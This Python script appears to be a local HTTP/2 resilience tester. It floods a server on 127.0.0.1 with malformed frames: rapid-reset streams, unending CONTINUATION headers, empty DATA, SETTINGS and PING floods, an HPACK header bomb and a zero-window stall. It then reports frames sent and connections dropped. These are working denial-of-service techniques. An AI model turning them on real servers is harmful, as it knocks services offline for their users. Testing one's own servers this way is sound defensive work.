"""Frames of HTTP/2 as no honest client sends them. usage: h2-floods.py PORT HOST MODE SECONDS
Says at the end how many frames went out, and how often the server ended the connection."""
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
from hpack import Encoder

port, host, mode, seconds = int(sys.argv[1]), sys.argv[2], sys.argv[3], float(sys.argv[4])
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(encoder, method="GET", more=()):
    fields = [(":method", method), (":scheme", "https"), (":authority", f"{host}:{port}"), (":path", "/")]
    return encoder.encode(fields + list(more))


def rapid_reset(encoder, stream):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(encoder)) + frame(
        RST_STREAM, 0, stream, struct.pack(">I", 8)
    )


def continuation(encoder, stream):
    # The first piece begins a head that never ends.
    if stream == 1:
        return frame(HEADERS, END_STREAM, 1, head(encoder))
    return frame(CONTINUATION, 0, 1, encoder.encode([(f"x-{stream}", "a" * 200)]))


def empty_data(encoder, stream):
    if stream == 1:
        return frame(HEADERS, END_HEADERS, 1, head(encoder, "POST"))
    return frame(DATA, 0, 1) * 16


def settings(encoder, stream):
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100))


def ping(encoder, stream):
    return frame(PING, 0, 0, b"12345678")


def header_bomb(encoder, stream):
    # One large field in the table, then named again and again: some bytes become megabytes.
    big = head(encoder, more=[("x-big", "a" * 3000)])
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, big + b"\xbe" * 8000)


def no_window(encoder, stream):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(encoder))


def connect():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    connection = context.wrap_socket(socket.create_connection(("127.0.0.1", port)), server_hostname=host)
    assert connection.selected_alpn_protocol() == "h2"
    preface = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    if mode == "no-window":
        preface.local_settings.initial_window_size = 0
    preface.initiate_connection()
    connection.sendall(preface.data_to_send())
    return connection


def main():
    make = globals()[mode.replace("-", "_")]
    until, sent, ended = time.monotonic() + seconds, 0, 0
    while time.monotonic() < until:
        connection, encoder, stream = connect(), Encoder(), 1
        connection.settimeout(1)
        try:
            while time.monotonic() < until:
                connection.sendall(make(encoder, stream))
                sent += 1
                stream += 2
                # What the server says is read, so that it is not the sockets that are full.
                connection.setblocking(False)
                try:
                    if not connection.recv(65536):
                        raise ConnectionError
                except ssl.SSLWantReadError:
                    pass
                connection.settimeout(1)
                if mode == "no-window" and stream > 400:
                    time.sleep(0.05)
        except (ConnectionError, TimeoutError, ssl.SSLError, OSError):
            ended += 1
        connection.close()
    print(sent, ended)


main()
